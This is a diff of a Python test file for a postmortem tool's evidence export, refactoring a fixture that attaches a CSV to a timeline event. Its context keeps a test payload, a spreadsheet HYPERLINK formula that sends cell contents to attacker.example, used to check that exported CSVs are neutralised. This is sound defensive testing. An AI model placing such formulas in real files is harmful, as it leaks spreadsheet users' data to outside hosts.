@@ -14,7 +14,8 @@ import pytest
 from exports.render import render, render_all
 from postmortem.evidence import accept
 from postmortem.evidence.spreadsheet import for_download, neutralised, safe_cell
-from postmortem.models import AttachedTo, Attachment
+from postmortem.models import AttachedTo
+from tests.test_evidence_storage import attach
 
 HOSTILE = (
     b'time,host,note\n12:01,web-1,"=HYPERLINK(""http://attacker.example/?d=""&A1,""Open"")"\n'
@@ -70,16 +71,10 @@ def test_only_csv_is_changed_on_the_way_out():
 def with_csv(doc):
     kept = accept(HOSTILE, "errors.csv")
     assert kept.media_type.value == "text/csv"
-    attachment = Attachment(
-        digest=kept.digest,
-        media_type=kept.media_type.value,
-        name=kept.name,
-        size=kept.size,
-        target=AttachedTo.EVENT,
-        target_id=doc.timeline[0].id,
-        caption="Error counts per host",
+    attached = attach(
+        doc, kept, target=AttachedTo.EVENT, target_id=doc.timeline[0].id, caption="Error counts per host"
     )
-    return doc.model_copy(update={"attachments": [attachment]}), {kept.digest: kept.data}
+    return attached, {kept.digest: kept.data}
 
 
 def test_the_export_zip_holds_the_csv_neutralised(with_csv):
